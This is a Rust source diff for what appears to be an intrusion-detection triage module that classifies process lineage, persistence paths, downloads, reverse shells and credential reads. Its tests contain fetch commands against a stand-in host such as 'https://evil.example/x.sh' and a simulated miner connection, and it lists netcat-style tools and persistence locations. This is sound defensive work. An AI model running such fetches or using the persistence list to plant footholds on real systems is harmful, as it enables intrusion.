@@ -27,10 +27,9 @@ pub const SERVICES: &[&str] = &[
     "lighttpd",
     "php-fpm",
     "php-fpm8.2",
-    "php",
-    "node",
-    "java",
+    "php-cgi",
     "tomcat",
+    "catalina.sh",
     "gunicorn",
     "uwsgi",
     "puma",
@@ -44,16 +43,27 @@ pub const SERVICES: &[&str] = &[
     "mariadbd",
     "mongod",
     "redis-server",
+    "memcached",
+    "rabbitmq-server",
+    "beam.smp",
+    "elasticsearch",
 ];
-/// Ways in: programs a person's session passes through.
-pub const ENTRY_POINTS: &[&str] = &[
+/// Ways a person logs in or attaches to a terminal.
+pub const LOGIN_ENTRIES: &[&str] = &[
     "sshd",
     "login",
     "agetty",
+    "getty",
+    "mingetty",
     "tmux: server",
+    "tmux",
     "screen",
-    "sudo",
-    "su",
+    "SCREEN",
+    "mosh-server",
+    "script",
+    "xterm",
+    "gnome-terminal-",
+    "konsole",
 ];
 /// Container runtimes through which `exec` sessions are entered.
 pub const RUNTIMES: &[&str] = &[
@@ -64,6 +74,90 @@ pub const RUNTIMES: &[&str] = &[
     "conmon",
     "docker",
     "kubectl",
+    "crictl",
+    "nerdctl",
+    "podman",
+];
+/// Schedulers: their children are jobs, not people.
+pub const SCHEDULERS: &[&str] = &["cron", "crond", "CRON", "anacron", "atd", "systemd-timer"];
+/// Package managers.
+pub const PACKAGE_MANAGERS: &[&str] = &[
+    "dpkg",
+    "apt",
+    "apt-get",
+    "aptitude",
+    "unattended-upgr",
+    "dpkg-preconfigu",
+    "yum",
+    "dnf",
+    "rpm",
+    "microdnf",
+    "apk",
+    "zypper",
+    "pacman",
+    "snapd",
+];
+/// Interpreters: the script, not the interpreter, is the actor.
+pub const INTERPRETERS: &[&str] = &[
+    "python", "python2", "python3", "perl", "ruby", "php", "node", "java", "lua", "Rscript",
+];
+/// CI runners.
+pub const CI_RUNNERS: &[&str] = &[
+    "gitlab-runner",
+    "Runner.Worker",
+    "Runner.Listener",
+    "act_runner",
+    "drone-runner-do",
+    "buildkitd",
+    "buildkit-runc",
+    "jenkins-agent",
+    "agent.jar",
+];
+/// Build tools.
+pub const BUILD_TOOLS: &[&str] = &[
+    "make", "gmake", "cmake", "ninja", "cargo", "rustc", "go", "gcc", "cc", "g++", "clang", "mvn",
+    "gradle", "bazel", "meson",
+];
+/// Process managers at the root of every tree.
+pub const INITS: &[&str] = &["systemd", "init", "tini", "dumb-init", "s6-svscan", "runsv"];
+/// Network tools whose connections are a reverse shell's or a tunnel's.
+pub const NET_TOOLS: &[&str] = &[
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "telnet",
+    "nc.openbsd",
+    "nc.traditional",
+];
+/// Accounts services run as: never a person at a terminal.
+pub const SYSTEM_ACCOUNTS: &[&str] = &[
+    "www-data",
+    "nobody",
+    "apache",
+    "nginx",
+    "http",
+    "daemon",
+    "bin",
+    "sys",
+    "mail",
+    "postgres",
+    "mysql",
+    "redis",
+    "tomcat",
+    "jenkins",
+    "git",
+    "nfsnobody",
+    "_www",
+    "node",
+    "elasticsearch",
+];
+/// Server ports ordinary clients connect to (web, mail, DNS, SSH, databases, object stores,
+/// monitoring): a connection to one by a non-shell client is not weighed.
+pub const COMMON_PORTS: &[u16] = &[
+    21, 22, 25, 53, 80, 88, 123, 389, 443, 465, 587, 636, 873, 993, 995, 2049, 2379, 3000, 3306,
+    5432, 5671, 5672, 6379, 6443, 8080, 8086, 8125, 8200, 8443, 8500, 9000, 9090, 9091, 9092, 9093,
+    9100, 9200, 9300, 11211, 27017,
 ];
 /// Download tools.
 pub const DOWNLOADERS: &[&str] = &[
@@ -96,6 +190,53 @@ pub enum Sensitivity {
     Medium,
     /// Authentication and audit records, shell history, credentials.
     High,
+    /// Where an intruder persists: shell start-up files, cron, systemd units, the
+    /// dynamic loader's preload list, init scripts.
+    Persistence,
+}
+
+/// Whether a path is a persistence location.
+pub fn is_persistence(path: &str) -> bool {
+    let base = path.rsplit('/').next().unwrap_or(path);
+    const NAMES: &[&str] = &[
+        ".bashrc",
+        ".bash_profile",
+        ".bash_login",
+        ".profile",
+        ".zshrc",
+        ".zprofile",
+        ".zshenv",
+        ".bash_logout",
+        ".cshrc",
+        ".tcshrc",
+        ".kshrc",
+        "ld.so.preload",
+        "rc.local",
+        "crontab",
+        "bash.bashrc",
+        "profile",
+        "environment",
+    ];
+    const PARTS: &[&str] = &[
+        "/etc/cron",
+        "/var/spool/cron/",
+        "/etc/systemd/system/",
+        "/usr/lib/systemd/system/",
+        "/lib/systemd/system/",
+        "/.config/systemd/user/",
+        "/etc/profile.d/",
+        "/etc/init.d/",
+        "/etc/rc.d/",
+        "/etc/xdg/autostart/",
+        "/.config/autostart/",
+        "/etc/update-motd.d/",
+    ];
+    (NAMES.contains(&base)
+        && (path.starts_with("/etc/")
+            || path.starts_with("/root/")
+            || path.starts_with("/home/")
+            || !path.starts_with('/')))
+        || PARTS.iter().any(|p| path.contains(p))
 }
 
 /// Classifies a target path.
@@ -148,6 +289,9 @@ pub fn sensitivity(path: &str) -> Sensitivity {
     if HIGH_NAMES.contains(&base) || HIGH_PARTS.iter().any(|p| path.contains(p)) {
         return Sensitivity::High;
     }
+    if is_persistence(path) {
+        return Sensitivity::Persistence;
+    }
     let rotated = base.ends_with(".gz")
         || base.ends_with(".xz")
         || base.ends_with(".old")
@@ -193,44 +337,235 @@ pub fn lineage(ev: &FlatEvent) -> Vec<(usize, String, Option<String>)> {
     out
 }
 
+/// What part a process plays in a lineage.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Role {
+    /// A shell.
+    Shell,
+    /// A network service (web server, database...).
+    Service,
+    /// A container runtime (an `exec` entry).
+    Runtime,
+    /// A login or terminal entry (sshd, login, tmux...).
+    Login,
+    /// A job scheduler (cron, atd...).
+    Scheduler,
+    /// A package manager.
+    PackageManager,
+    /// An interpreter (python, perl, node...).
+    Interpreter,
+    /// A CI runner.
+    CiRunner,
+    /// A build tool or compiler.
+    Build,
+    /// A privilege change (sudo, su).
+    Privilege,
+    /// An init or process supervisor.
+    Init,
+    /// Anything else.
+    Other,
+}
+
+impl Role {
+    /// A short word for the role.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Role::Shell => "shell",
+            Role::Service => "service",
+            Role::Runtime => "runtime",
+            Role::Login => "login",
+            Role::Scheduler => "scheduler",
+            Role::PackageManager => "pkg",
+            Role::Interpreter => "interp",
+            Role::CiRunner => "ci",
+            Role::Build => "build",
+            Role::Privilege => "priv",
+            Role::Init => "init",
+            Role::Other => "other",
+        }
+    }
+}
+
+/// The role of a process name.
+pub fn role(name: &str) -> Role {
+    let n = name;
+    if SHELLS.contains(&n) {
+        Role::Shell
+    } else if SERVICES.contains(&n) {
+        Role::Service
+    } else if RUNTIMES.iter().any(|r| n.starts_with(r)) {
+        Role::Runtime
+    } else if LOGIN_ENTRIES.contains(&n) {
+        Role::Login
+    } else if SCHEDULERS.contains(&n) {
+        Role::Scheduler
+    } else if PACKAGE_MANAGERS.contains(&n) {
+        Role::PackageManager
+    } else if CI_RUNNERS.contains(&n) {
+        Role::CiRunner
+    } else if BUILD_TOOLS.contains(&n) {
+        Role::Build
+    } else if n == "sudo" || n == "su" || n == "doas" || n == "runuser" {
+        Role::Privilege
+    } else if INITS.contains(&n) {
+        Role::Init
+    } else if INTERPRETERS.contains(&n)
+        || n.starts_with("python")
+        || n.starts_with("php")
+        || n.starts_with("perl")
+        || n.starts_with("ruby")
+    {
+        Role::Interpreter
+    } else {
+        Role::Other
+    }
+}
+
+/// The lineage shape of an event: the roles of its ancestors, nearest first, with unknown
+/// programs left out, repeats collapsed and at most 4 roles (`shell<login`, `shell<service`,
+/// `shell<runtime`). The process itself is not part of it (it is the actor).
+pub fn shape(ev: &FlatEvent) -> String {
+    let mut roles: Vec<Role> = Vec::new();
+    for (level, name, _) in lineage(ev) {
+        if level == 0 {
+            continue;
+        }
+        let r = role(&name);
+        if r == Role::Other || roles.last() == Some(&r) {
+            continue;
+        }
+        roles.push(r);
+        if roles.len() == 4 || matches!(r, Role::Init | Role::Runtime) {
+            break;
+        }
+    }
+    if roles.is_empty() {
+        return "?".into();
+    }
+    roles
+        .iter()
+        .map(|r| r.as_str())
+        .collect::<Vec<_>>()
+        .join("<")
+}
+
 /// Who acted, as the triage sees it.
 #[derive(Clone, Debug, Default, PartialEq)]
 pub struct Actor {
     /// A controlling terminal (`proc.tty` not 0).
     pub tty: bool,
-    /// An entry point (sshd, login, sudo...) among the ancestors, by name.
+    /// A login or terminal entry (sshd, login, tmux...) among the ancestors, by name.
     pub entry: Option<String>,
     /// A container runtime among the ancestors (an `exec` session), by name.
     pub runtime: Option<String>,
+    /// A service among the ancestors, by name.
+    pub service: Option<String>,
     /// A server among the ancestors with a shell between it and the process: (server, shell).
     pub service_shell: Option<(String, String)>,
     /// The process or an ancestor runs from a drop directory or memfd, or was written
     /// after its container started: (level, path).
     pub dropped_exe: Option<(usize, String)>,
+    /// The name of the process that started the dropped executable (its parent), if known.
+    pub dropped_parent: Option<String>,
+    /// A system account (a service's user) runs the process: its name or uid.
+    pub system_account: Option<String>,
+    /// The process's standard input or output is a network connection (a reverse shell).
+    pub network_stdio: Option<String>,
+    /// A scheduler (cron, atd) among the ancestors, by name.
+    pub scheduler: Option<String>,
+}
+
+impl Actor {
+    /// A person at a terminal, on the process's own facts: a tty together with a login or
+    /// runtime `exec` entry, no service in the lineage, no system account, no network
+    /// stdin/stdout and no dropped binary. (Session facts, such as a download, cancel it
+    /// further in triage.)
+    pub fn interactive(&self) -> bool {
+        self.tty
+            && (self.entry.is_some() || self.runtime.is_some())
+            && self.service.is_none()
+            && self.service_shell.is_none()
+            && self.system_account.is_none()
+            && self.network_stdio.is_none()
+            && self.dropped_exe.is_none()
+            && self.scheduler.is_none()
+    }
+}
+
+/// Whether the process runs as a system account: a name from [`SYSTEM_ACCOUNTS`], or a uid
+/// from 1 to 999 (or 65534), unless the login uid shows a person who changed user
+/// (`sudo -u postgres` by an admin).
+pub fn system_account(ev: &FlatEvent) -> Option<String> {
+    let name = text(ev, "user.name");
+    let uid = int(ev, "user.uid");
+    let sys_uid = |u: i64| (1..1000).contains(&u) || u == 65534;
+    let by_name = name
+        .as_deref()
+        .is_some_and(|n| SYSTEM_ACCOUNTS.contains(&n));
+    let by_uid = uid.is_some_and(sys_uid);
+    if !(by_name || by_uid) {
+        return None;
+    }
+    // A person's login uid (root or a regular user) behind a change of user.
+    let login = int(ev, "user.loginuid").filter(|l| *l >= 0 && *l != 4_294_967_295);
+    if login.is_some_and(|l| l == 0 || (1000..65534).contains(&l)) {
+        return None;
+    }
+    Some(name.unwrap_or_else(|| format!("uid {}", uid.unwrap_or(-1))))
+}
+
+/// Whether a standard stream of the process is a network socket (`proc.stdin_type` etc.).
+fn network_stdio(ev: &FlatEvent) -> Option<String> {
+    for k in ["proc.stdin_type", "proc.stdout_type", "proc.stderr_type"] {
+        if let Some(t) = text(ev, k) {
+            if matches!(t.as_str(), "ipv4" | "ipv6") {
+                let which = k.trim_start_matches("proc.").trim_end_matches("_type");
+                return Some(format!("{which} is an {t} socket"));
+            }
+        }
+    }
+    None
 }
 
 /// Reads the actor facts of an event.
 pub fn actor(ev: &FlatEvent) -> Actor {
     let mut a = Actor {
         tty: int(ev, "proc.tty").is_some_and(|t| t != 0),
+        system_account: system_account(ev),
+        network_stdio: network_stdio(ev),
         ..Actor::default()
     };
     let lin = lineage(ev);
     let mut shell_below: Option<String> = None;
-    for (level, name, exe) in &lin {
-        if a.entry.is_none() && *level > 0 && ENTRY_POINTS.contains(&name.as_str()) {
-            a.entry = Some(name.clone());
-        }
-        if a.runtime.is_none() && *level > 0 && RUNTIMES.iter().any(|r| name.starts_with(r)) {
-            a.runtime = Some(name.clone());
-        }
-        if a.service_shell.is_none() && *level > 0 && SERVICES.contains(&name.as_str()) {
-            if let Some(sh) = &shell_below {
-                a.service_shell = Some((name.clone(), sh.clone()));
+    let mut past_runtime = false;
+    for (i, (level, name, exe)) in lin.iter().enumerate() {
+        let r = role(name);
+        // Above a container runtime is the host's side: how the runtime was started is not
+        // how the container's process was entered.
+        if *level > 0 && !past_runtime {
+            match r {
+                Role::Login if a.entry.is_none() => a.entry = Some(name.clone()),
+                Role::Runtime if a.runtime.is_none() => a.runtime = Some(name.clone()),
+                Role::Scheduler if a.scheduler.is_none() => a.scheduler = Some(name.clone()),
+                Role::Service => {
+                    if a.service.is_none() {
+                        a.service = Some(name.clone());
+                    }
+                    if a.service_shell.is_none() {
+                        if let Some(sh) = &shell_below {
+                            a.service_shell = Some((name.clone(), sh.clone()));
+                        }
+                    }
+                }
+                _ => {}
             }
         }
-        if SHELLS.contains(&name.as_str()) {
+        if r == Role::Shell {
             shell_below = Some(name.clone());
+        }
+        if *level > 0 && r == Role::Runtime {
+            past_runtime = true;
         }
         if a.dropped_exe.is_none() && *level <= MAX_DROP_LEVEL {
             if let Some(p) = exe
@@ -238,6 +573,7 @@ pub fn actor(ev: &FlatEvent) -> Actor {
                 .filter(|p| in_drop_dir(p) && !p.starts_with("memfd:runc"))
             {
                 a.dropped_exe = Some((*level, p.to_string()));
+                a.dropped_parent = lin.get(i + 1).map(|(_, n, _)| n.clone());
             }
         }
     }
@@ -252,6 +588,7 @@ pub fn actor(ev: &FlatEvent) -> Actor {
         );
         if memfd || upper {
             a.dropped_exe = Some((0, text(ev, "proc.exepath").unwrap_or_else(|| "?".into())));
+            a.dropped_parent = text(ev, "proc.pname");
         }
     }
     a
@@ -260,14 +597,25 @@ pub fn actor(ev: &FlatEvent) -> Actor {
 /// The kind of a session event, for context.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub enum Activity {
-    /// A download tool ran: (program, command line).
+    /// A fetch that writes a file (or a copy from a remote host): (program, command line).
     Download(String, String),
+    /// A fetch whose body goes to standard output (counted as a download only when a
+    /// shell reading its standard input follows): (program, command line).
+    FetchToStdout(String, String),
+    /// A shell or interpreter reading its program from standard input (`sh`, `bash -s`,
+    /// `python -`): its command line.
+    ShellFromStdin(String),
     /// A program ran from a drop directory or memfd: its path.
     ExecDropped(String),
-    /// A connection to a non-local address: the address.
-    Outbound(String),
-    /// A credential file was read: its path.
-    CredentialRead(String),
+    /// A file was opened for writing in a drop directory: (path, writer's name).
+    WroteFile(String, String),
+    /// A connection that looks like a reverse shell, a tunnel or an unusual service:
+    /// (address, connecting program).
+    Outbound(String, String),
+    /// A standard stream was redirected to a network socket (`dup2` onto fd 0-2).
+    NetworkStdio(String),
+    /// A credential file was read: (path, reader's name).
+    CredentialRead(String, String),
     /// A known-maintenance program ran (catalogue actor): its name.
     Maintenance(String),
 }
@@ -304,13 +652,164 @@ fn server_ip(ev: &FlatEvent) -> Option<IpAddr> {
     host.trim_matches(|c| c == '[' || c == ']').parse().ok()
 }
 
+fn server_port(ev: &FlatEvent) -> Option<u16> {
+    for k in ["fd.sport", "fd.rport"] {
+        if let Some(p) = int(ev, k).and_then(|p| u16::try_from(p).ok()) {
+            return Some(p);
+        }
+    }
+    let name = text(ev, "fd.name")?;
+    let (_, remote) = name.split_once("->")?;
+    remote.rsplit_once(':')?.1.parse().ok()
+}
+
+/// The hosts named by the URLs of a command line (`scheme://host[:port]/...`).
+fn url_hosts(cmd: &str) -> Vec<String> {
+    cmd.split_whitespace()
+        .filter_map(|w| {
+            let w = w.trim_matches(|c| c == '"' || c == '\'');
+            let (_, rest) = w.split_once("://")?;
+            let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
+            let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
+            let host = if let Some(h) = host.strip_prefix('[') {
+                h.split(']').next().unwrap_or("")
+            } else {
+                host.split(':').next().unwrap_or("")
+            };
+            Some(host.to_ascii_lowercase())
+        })
+        .collect()
+}
+
+fn is_loopback_host(h: &str) -> bool {
+    h == "localhost"
+        || h.ends_with(".localhost")
+        || h.parse::<IpAddr>().is_ok_and(|ip| ip.is_loopback())
+}
+
+/// What a fetch tool's command line does: `Some(true)` when it writes a file, `Some(false)`
+/// when the body goes to standard output, `None` when it is not a fetch (an upload, a
+/// request whose body is discarded, no URL).
+fn fetch_writes(name: &str, cmd: &str) -> Option<bool> {
+    let words: Vec<&str> = cmd.split_whitespace().collect();
+    let next = |i: usize| words.get(i + 1).copied().unwrap_or("");
+    let discard = |dest: &str| dest == "/dev/null" || dest == "-";
+    match name {
+        "curl" => {
+            let mut writes = false;
+            for (i, w) in words.iter().enumerate() {
+                let w = *w;
+                // Uploads: a file or form sent, not fetched.
+                if w == "-T"
+                    || w.starts_with("--upload-file")
+                    || w == "-F"
+                    || w.starts_with("--form")
+                    || ((w == "-d" || w.starts_with("--data")) && next(i).starts_with('@'))
+                    || (w.starts_with("--data") && w.contains("=@"))
+                    || (w.starts_with("-d@") || w.starts_with("-T"))
+                {
+                    return None;
+                }
+                if w == "-o" || w == "--output" {
+                    if discard(next(i)) {
+                        return None;
+                    }
+                    writes = true;
+                } else if let Some(d) = w.strip_prefix("--output=") {
+                    if discard(d) {
+                        return None;
+                    }
+                    writes = true;
+                } else if w == "-O" || w == "--remote-name" || w == "--remote-name-all" {
+                    writes = true;
+                } else if w.starts_with('-') && !w.starts_with("--") && w.len() > 2 {
+                    // Combined short options: `-sSLo file`, `-fsSO`.
+                    let flags = &w[1..];
+                    if flags.ends_with('o') {
+                        if discard(next(i)) {
+                            return None;
+                        }
+                        writes = true;
+                    } else if flags.contains('O') {
+                        writes = true;
+                    }
+                }
+            }
+            Some(writes)
+        }
+        "wget" => {
+            if words
+                .iter()
+                .any(|w| *w == "--spider" || w.starts_with("--post-file"))
+            {
+                return None;
+            }
+            for (i, w) in words.iter().enumerate() {
+                let w = *w;
+                if w == "-O" || w == "--output-document" {
+                    let d = next(i);
+                    return if d == "/dev/null" {
+                        None
+                    } else {
+                        Some(d != "-")
+                    };
+                }
+                if let Some(d) = w.strip_prefix("--output-document=") {
+                    return if d == "/dev/null" {
+                        None
+                    } else {
+                        Some(d != "-")
+                    };
+                }
+                if w.starts_with('-') && !w.starts_with("--") && w.ends_with('O') {
+                    let d = next(i);
+                    return if d == "/dev/null" {
+                        None
+                    } else {
+                        Some(d != "-")
+                    };
+                }
+                if let Some(d) = w.strip_prefix("-qO").or_else(|| w.strip_prefix("-O")) {
+                    if !d.is_empty() {
+                        return if d == "/dev/null" {
+                            None
+                        } else {
+                            Some(d != "-")
+                        };
+                    }
+                }
+            }
+            Some(true)
+        }
+        _ => Some(true),
+    }
+}
+
+/// Whether `scp`/`rsync`/`sftp` copies from a remote host to a local path.
+fn copies_from_remote(cmd: &str) -> bool {
+    let args: Vec<&str> = cmd
+        .split_whitespace()
+        .skip(1)
+        .filter(|w| !w.starts_with('-'))
+        .collect();
+    let remote = |w: &str| {
+        !w.starts_with('/')
+            && !w.starts_with('.')
+            && (w.contains("://") || w.split_once(':').is_some_and(|(h, _)| !h.is_empty()))
+    };
+    match args.split_last() {
+        Some((dest, srcs)) => !remote(dest) && srcs.iter().any(|s| remote(s)),
+        None => false,
+    }
+}
+
 /// What one event did, when it is of a kind the session context weighs.
 pub fn activity(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option<Activity> {
     let ty = text(ev, "evt.type")?;
     if is_exec(ev) {
         let name = text(ev, "proc.name").unwrap_or_default();
         let exe = text(ev, "proc.exepath").unwrap_or_default();
-        if in_drop_dir(&exe)
+        if (in_drop_dir(&exe) && !exe.starts_with("memfd:runc"))
             || matches!(
                 ev.get("proc.is_exe_from_memfd"),
                 Some(quell_rules::Value::Bool(true))
@@ -318,15 +817,46 @@ pub fn activity(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option
         {
             return Some(Activity::ExecDropped(exe));
         }
+        let cmd = text(ev, "proc.cmdline").unwrap_or_default();
         if DOWNLOADERS.contains(&name.as_str()) {
-            let cmd = text(ev, "proc.cmdline").unwrap_or_default();
-            if cmd.contains("://")
-                || cmd.contains(" -o")
-                || cmd.contains(" -O")
-                || name == "scp"
-                || name == "tftp"
+            match name.as_str() {
+                "scp" | "sftp" | "rsync" => {
+                    if copies_from_remote(&cmd) {
+                        return Some(Activity::Download(name, cmd));
+                    }
+                }
+                _ => {
+                    let hosts = url_hosts(&cmd);
+                    let local_only = !hosts.is_empty() && hosts.iter().all(|h| is_loopback_host(h));
+                    match fetch_writes(&name, &cmd) {
+                        Some(true) if !hosts.is_empty() || name == "tftp" || name == "ftp" => {
+                            return Some(Activity::Download(name, cmd))
+                        }
+                        Some(false) if !hosts.is_empty() && !local_only => {
+                            return Some(Activity::FetchToStdout(name, cmd))
+                        }
+                        Some(false) if local_only => {
+                            // A health check or a local API call: weighed only if a shell
+                            // reads it.
+                            return Some(Activity::FetchToStdout(name, cmd));
+                        }
+                        _ => {}
+                    }
+                }
+            }
+        }
+        if role(&name) == Role::Shell || role(&name) == Role::Interpreter {
+            let args: Vec<&str> = cmd.split_whitespace().skip(1).collect();
+            let from_stdin = args.is_empty()
+                || args == ["-"]
+                || args.first().is_some_and(|a| *a == "-s" || *a == "-")
+                || (args.len() == 1 && matches!(args[0], "-i" | "-l"));
+            let piped = text(ev, "proc.stdin_type").is_some_and(|t| t == "pipe");
+            if from_stdin
+                && (piped || text(ev, "proc.stdin_type").is_none())
+                && int(ev, "proc.tty").is_none_or(|t| t == 0)
             {
-                return Some(Activity::Download(name, cmd));
+                return Some(Activity::ShellFromStdin(cmd));
             }
         }
         if is_maintenance(&name) {
@@ -337,21 +867,50 @@ pub fn activity(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option
     if ty == "connect" {
         let ok = int(ev, "evt.rawres").is_none_or(|r| r == 0 || r == -115);
         let ip = server_ip(ev)?;
-        if ok && !is_local(&ip) {
+        if !ok || is_local(&ip) {
+            return None;
+        }
+        let name = text(ev, "proc.name").unwrap_or_default();
+        let r = role(&name);
+        let unusual_port = server_port(ev).is_none_or(|p| !COMMON_PORTS.contains(&p));
+        let dropped = in_drop_dir(&text(ev, "proc.exepath").unwrap_or_default());
+        if r == Role::Shell
+            || r == Role::Interpreter
+            || NET_TOOLS.contains(&name.as_str())
+            || dropped
+            || unusual_port
+        {
             return Some(Activity::Outbound(
                 text(ev, "fd.name").unwrap_or_else(|| ip.to_string()),
+                name,
             ));
         }
         return None;
     }
+    if matches!(ty.as_str(), "dup" | "dup2" | "dup3") {
+        let fdnum = int(ev, "evt.arg.newfd").or_else(|| int(ev, "fd.num"));
+        let ftype = text(ev, "fd.type").unwrap_or_default();
+        if fdnum.is_some_and(|n| (0..=2).contains(&n)) && matches!(ftype.as_str(), "ipv4" | "ipv6")
+        {
+            return Some(Activity::NetworkStdio(text(ev, "fd.name").unwrap_or(ftype)));
+        }
+        return None;
+    }
     if matches!(ty.as_str(), "open" | "openat" | "openat2") {
-        let read = matches!(
-            ev.get("evt.is_open_read"),
-            Some(quell_rules::Value::Bool(true))
-        );
+        let flag = |k: &str| matches!(ev.get(k), Some(quell_rules::Value::Bool(true)));
         let path = text(ev, "fd.name")?;
-        if read && is_credential(&path) && int(ev, "fd.num").is_none_or(|n| n >= 0) {
-            return Some(Activity::CredentialRead(path));
+        let reader = text(ev, "proc.name").unwrap_or_default();
+        if flag("evt.is_open_read")
+            && is_credential(&path)
+            && int(ev, "fd.num").is_none_or(|n| n >= 0)
+        {
+            return Some(Activity::CredentialRead(path, reader));
+        }
+        let write = flag("evt.is_open_write")
+            || text(ev, "evt.arg.flags")
+                .is_some_and(|f| f.contains("O_WRONLY") || f.contains("O_RDWR"));
+        if write && in_drop_dir(&path) && int(ev, "fd.num").is_none_or(|n| n >= 0) {
+            return Some(Activity::WroteFile(path, reader));
         }
     }
     None
@@ -397,6 +956,13 @@ mod tests {
         assert_eq!(sensitivity("/var/log/audit/audit.log"), Sensitivity::High);
         assert_eq!(sensitivity("/root/.bash_history"), Sensitivity::High);
         assert_eq!(sensitivity(""), Sensitivity::Medium);
+        assert_eq!(sensitivity("/home/ops/.bashrc"), Sensitivity::Persistence);
+        assert_eq!(sensitivity("/etc/cron.d/job"), Sensitivity::Persistence);
+        assert_eq!(
+            sensitivity("/etc/systemd/system/x.service"),
+            Sensitivity::Persistence
+        );
+        assert_eq!(sensitivity("/srv/app/profile"), Sensitivity::Medium);
     }
 
     #[test]
@@ -443,11 +1009,11 @@ mod tests {
         assert_eq!(failed, None);
         let c = activity(
             &ev(
-                r#"{"evt.type":"connect","evt.rawres":0,"fd.name":"10.0.0.2:5555->93.184.216.34:443"}"#,
+                r#"{"evt.type":"connect","evt.rawres":0,"proc.name":"bash","fd.name":"10.0.0.2:5555->93.184.216.34:443"}"#,
             ),
             &none,
         );
-        assert!(matches!(c, Some(Activity::Outbound(_))));
+        assert!(matches!(c, Some(Activity::Outbound(..))));
         let l = activity(
             &ev(
                 r#"{"evt.type":"connect","evt.rawres":0,"fd.name":"127.0.0.1:5555->127.0.0.1:443"}"#,
@@ -461,11 +1027,183 @@ mod tests {
             ),
             &none,
         );
-        assert_eq!(r, Some(Activity::CredentialRead("/etc/shadow".into())));
+        assert_eq!(
+            r,
+            Some(Activity::CredentialRead(
+                "/etc/shadow".into(),
+                String::new()
+            ))
+        );
         let m = activity(
             &ev(r#"{"evt.type":"execve","evt.rawres":0,"proc.name":"dpkg"}"#),
             &|n| n == "dpkg",
         );
         assert_eq!(m, Some(Activity::Maintenance("dpkg".into())));
+    }
+
+    fn exec(name: &str, cmd: &str) -> Option<Activity> {
+        let j = serde_json::json!({"evt.type":"execve","evt.rawres":0,"proc.name":name,"proc.cmdline":cmd});
+        activity(&ev(&j.to_string()), &|_| false)
+    }
+
+    #[test]
+    fn only_fetches_that_write_a_file_are_downloads() {
+        let dl = |a: Option<Activity>| matches!(a, Some(Activity::Download(..)));
+        let stdout = |a: Option<Activity>| matches!(a, Some(Activity::FetchToStdout(..)));
+        // Health checks and local API calls: not downloads.
+        assert!(!dl(exec("curl", "curl -fsS http://localhost:8080/healthz")));
+        assert!(stdout(exec(
+            "curl",
+            "curl -fsS http://localhost:8080/healthz"
+        )));
+        assert_eq!(
+            exec(
+                "curl",
+                "curl -s -o /dev/null -w %{http_code} http://127.0.0.1/health"
+            ),
+            None
+        );
+        // Uploads to a backup server.
+        for up in [
+            "curl -T /var/backups/db.tar.gz https://backup.example.com/up/",
+            "curl --upload-file /var/backups/db.tar.gz https://backup.example.com/",
+            "curl -F file=@/var/backups/db.tar.gz https://backup.example.com/",
+            "curl -d @/var/backups/meta.json https://backup.example.com/",
+            "curl --data-binary @/var/backups/db.gz https://backup.example.com/",
+        ] {
+            assert_eq!(exec("curl", up), None, "{up}");
+        }
+        // Fetches that write a file.
+        assert!(dl(exec("curl", "curl -sSLo /tmp/x https://evil.example/x")));
+        assert!(dl(exec("curl", "curl -O https://evil.example/x")));
+        assert!(dl(exec(
+            "curl",
+            "curl -s -o /tmp/p http://127.0.0.1:8000/p"
+        )));
+        assert!(dl(exec("wget", "wget https://evil.example/x")));
+        assert!(stdout(exec("wget", "wget -qO- https://evil.example/x.sh")));
+        assert!(dl(exec("scp", "scp user@host:/srv/x /tmp/x")));
+        assert_eq!(
+            exec("rsync", "rsync -a /var/backups/ backup.example.com:/srv/b/"),
+            None
+        );
+        // A shell reading its program from a pipe.
+        assert!(matches!(
+            exec("sh", "sh"),
+            Some(Activity::ShellFromStdin(_))
+        ));
+        assert!(matches!(
+            exec("bash", "bash -s -- --flag"),
+            Some(Activity::ShellFromStdin(_))
+        ));
+        assert_eq!(exec("bash", "bash /opt/run.sh"), None);
+    }
+
+    #[test]
+    fn outbound_is_weighed_for_shells_tools_and_unusual_ports() {
+        let conn = |name: &str, fd: &str| {
+            let j = serde_json::json!({"evt.type":"connect","evt.rawres":0,"proc.name":name,"fd.name":fd});
+            activity(&ev(&j.to_string()), &|_| false)
+        };
+        assert_eq!(conn("curl", "10.0.0.2:41234->203.0.113.9:443"), None);
+        assert!(conn("bash", "10.0.0.2:41234->203.0.113.9:443").is_some());
+        assert!(conn("python3", "10.0.0.2:41234->203.0.113.9:443").is_some());
+        assert!(conn("nc", "10.0.0.2:41234->203.0.113.9:443").is_some());
+        assert!(conn("xmrig2", "10.0.0.2:41234->203.0.113.9:3333").is_some());
+        assert_eq!(conn("bash", "127.0.0.1:41234->127.0.0.1:4444"), None);
+    }
+
+    #[test]
+    fn interactive_needs_a_person() {
+        let i = |j: &str| actor(&ev(j)).interactive();
+        // A person: a tty with a login or a runtime exec entry.
+        assert!(i(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}"#
+        ));
+        assert!(i(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"runc"}"#
+        ));
+        // What started the runtime (host side) is not how the container was entered.
+        let a = actor(&ev(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"runc","proc.aname[3]":"sshd","proc.aname[4]":"httpd"}"#,
+        ));
+        assert_eq!((a.entry, a.service), (None, None));
+        // A tty alone, sudo alone, or a runtime exec without a tty (piped): no.
+        assert!(!i(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash"}"#
+        ));
+        assert!(!i(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sudo"}"#
+        ));
+        assert!(!i(
+            r#"{"proc.name":"rm","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"runc"}"#
+        ));
+        // A service in the lineage, a service account, a network stdin: no.
+        assert!(!i(
